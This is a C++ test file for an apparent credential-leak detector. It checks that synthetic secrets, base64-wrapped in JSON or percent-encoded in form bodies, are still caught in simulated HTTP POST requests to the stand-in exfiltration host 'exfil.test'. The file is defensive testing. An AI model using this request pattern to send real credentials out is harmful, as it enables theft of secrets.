// Every shipped credential kind, sent the ways exfiltration code encodes it: base64 inside a JSON
// body, and percent-encoded in a form body. The egress decoder unwraps each, and the catalogue's
// matcher must find the kind in what it hands over (the same path as the pipeline: one matcher
// per decoded unit). Secrets are synthetic and compared without ever being printed.
#include <gtest/gtest.h>

#include <cctype>
#include <set>

#include "../../match/synthetic_keys.h"
#include "chunk_recorder.h"
#include "catalogue/rules.h"
#include "stream/decoders/egress_decoder.h"
#include "match/matcher.h"

namespace credsentry::stream::decoders {
namespace {

std::shared_ptr<const match::MatcherDatabase> Shipped() {
  static auto db = [] {
    auto rules = catalogue::LoadRules({CREDSENTRY_SOURCE_RULES_DIR});
    EXPECT_TRUE(rules.ok()) << rules.message();
    auto compiled = match::MatcherDatabase::Compile(std::move(*rules));
    EXPECT_TRUE(compiled.ok()) << compiled.message();
    return *compiled;
  }();
  return db;
}

std::string Base64(std::string_view in) {
  static const char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out.push_back(kAlphabet[(v >> s) & 63]);
  }
  if (i < in.size()) {
    uint32_t v = uint8_t(in[i]) << 16;
    if (i + 1 < in.size()) v |= uint8_t(in[i + 1]) << 8;
    out.push_back(kAlphabet[(v >> 18) & 63]);
    out.push_back(kAlphabet[(v >> 12) & 63]);
    out.push_back(i + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=');
    out.push_back('=');
  }
  return out;
}

// Every byte but letters and digits as %XX, as an over-eager form encoder would.
std::string PercentAll(std::string_view in) {
  static const char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : in) {
    if (std::isalnum(c)) {
      out.push_back(static_cast<char>(c));
    } else {
      out += {'%', kHex[c >> 4], kHex[c & 15]};
    }
  }
  return out;
}

std::string Post(const std::string& content_type, const std::string& body) {
  return "POST /collect HTTP/1.1\r\nHost: exfil.test\r\nContent-Type: " + content_type +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

// Kind ids the matcher finds in what the decoder makes of `request`.
std::set<std::string> KindsFound(const std::string& request) {
  auto db = Shipped();
  EgressDecoder decoder;
  testing::ChunkRecorder recorder;
  decoder.Feed({reinterpret_cast<const uint8_t*>(request.data()), request.size()},
               recorder.Sink());
  std::set<std::string> kinds;
  for (const auto& unit : recorder.units()) {
    match::MatchStream matcher(db);
    auto on = [&](const match::SecretMatch& m) { kinds.insert(db->rules().kinds[m.kind_index].id); };
    matcher.Feed({reinterpret_cast<const uint8_t*>(unit.bytes.data()), unit.bytes.size()}, on);
    matcher.Close(on);
  }
  return kinds;
}

TEST(EveryKindEncoded, Base64InsideAJsonBodyIsFound) {
  credsentry::testing::KeyGenerator gen;
  for (const auto& kind : credsentry::testing::KeyGenerator::ShippedKinds()) {
    auto key = gen.Make(kind);
    std::string text = (kind == "aws-secret-access-key" ? "[default]\n" : "") + key.text + "\n";
    auto found = KindsFound(Post("application/json", "{\"blob\":\"" + Base64(text) + "\"}"));
    EXPECT_TRUE(found.contains(kind)) << kind << " not found in a base64 JSON field";
  }
}

TEST(EveryKindEncoded, PercentEncodedFormValueIsFound) {
  credsentry::testing::KeyGenerator gen;
  for (const auto& kind : credsentry::testing::KeyGenerator::ShippedKinds()) {
    auto key = gen.Make(kind);
    std::string text = (kind == "aws-secret-access-key" ? "[default]\n" : "") + key.text + "\n";
    auto found = KindsFound(Post("application/x-www-form-urlencoded", "q=" + PercentAll(text)));
    EXPECT_TRUE(found.contains(kind)) << kind << " not found in a percent-encoded form value";
  }
}

}  // namespace
}  // namespace credsentry::stream::decoders
